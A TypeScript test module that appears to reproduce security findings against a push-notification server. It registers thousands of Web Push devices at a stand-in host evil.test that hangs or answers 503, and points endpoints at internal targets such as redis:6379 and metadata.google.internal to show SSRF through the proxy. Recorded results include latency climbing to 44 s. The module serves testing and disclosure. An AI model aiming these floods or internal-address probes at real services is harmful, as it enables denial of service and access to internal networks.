/** Attacks 2, 4, 5, 8 and 11: Web Push endpoints at hosts that a stranger chose. */
import { BOTH_STORES, SQLITE, type Attack } from './attack.ts'
import { APPS } from './configuration.ts'
import { about, MAX_DEVICES, times } from './requests.ts'

const OWN_ORIGINS = ['https://redis:6379', 'https://metadata.google.internal', 'https://10.0.0.1']

export const HANGING_HOST: Attack = {
  number: '2',
  title:
    '1,000 Web Push devices at 1,000 ports of a host that accepts TLS and never answers, and 25 "calls" a second to such devices',
  found: 'p50 of the app 28 ms → 44 s; with the calls 0 of 60 pushes delivered in 75 s',
  stores: BOTH_STORES,
  attacked: 'web',
  other: 'ios',
  async prepare(attacker) {
    const devices = await attacker.browsers(
      APPS.web,
      times(1000, (index) => ({ name: `xhang-${index}`, origin: `https://evil.test:${1000 + index}` })),
    )
    const call = { type: 'm.call.invite', content: { lifetime: 60_000 } }
    return async () => {
      for (let start = 0; start < devices.length; start += MAX_DEVICES)
        await attacker.post({ ...about(), devices: devices.slice(start, start + MAX_DEVICES) })
      await attacker.keepOn(25, (turn) =>
        attacker.post({ ...about(), ...call, devices: devices.slice(turn, turn + 1) }),
      )
    }
  },
  count: ({ asked }) => ({ 'requests at the host': asked('evil.test none') }),
}

export const FAILING_HOST: Attack = {
  number: '4, 8',
  title: '2,400 Web Push devices at a host that answers 503, with `high_water: 2000`',
  found: '6 of 6 pushes to known devices answered 503; 23,440 requests (26 MB) at the host in 150 s',
  stores: BOTH_STORES,
  attacked: 'web',
  other: 'ios',
  queue: 'high_water: 2000',
  async prepare(attacker) {
    const devices = await attacker.browsers(
      APPS.web,
      times(2400, (index) => ({ name: `xs503-${index}`, origin: 'https://evil.test' })),
    )
    return async () => {
      for (let start = 0; start < devices.length; start += MAX_DEVICES)
        await attacker.post({ ...about(), devices: devices.slice(start, start + MAX_DEVICES) })
    }
  },
  count: ({ asked }) => ({ 'requests at the host': asked('evil.test 503') }),
}

export const HOST_THAT_THE_PROXY_REFUSES: Attack = {
  number: '5',
  title: 'Every second a Web Push endpoint for which the operator’s proxy answers 407',
  found: 'the whole app blocked',
  stores: SQLITE,
  attacked: 'web',
  other: 'ios',
  variant: { isProxied: true },
  async prepare(attacker) {
    const devices = await attacker.browsers(
      APPS.web,
      times(attacker.seconds, (index) => ({ name: `x-${index}`, origin: 'https://evil.test' })),
    )
    return () => attacker.keepOn(1, (turn) => attacker.post({ ...about(), devices: devices.slice(turn, turn + 1) }))
  },
  count: ({ asked }) => ({ 'asked of the proxy': asked('proxy evil.test') }),
}

export const OWN_NETWORK: Attack = {
  number: '11',
  title:
    'Behind a proxy, every second endpoints in the operator’s network: redis:6379, metadata.google.internal, 10.0.0.1',
  found: 'the proxy is asked for each of them',
  stores: SQLITE,
  attacked: 'web',
  other: 'ios',
  variant: { isProxied: true },
  async prepare(attacker) {
    const devices = await attacker.browsers(
      APPS.web,
      OWN_ORIGINS.map((origin, index) => ({ name: `x-${index}`, origin })),
    )
    return () => attacker.keepOn(1, () => attacker.post({ ...about(), devices }))
  },
  count: ({ asked }) => ({
    'asked of the proxy': OWN_ORIGINS.reduce((sum, origin) => sum + asked(`proxy ${new URL(origin).hostname}`), 0),
  }),
}
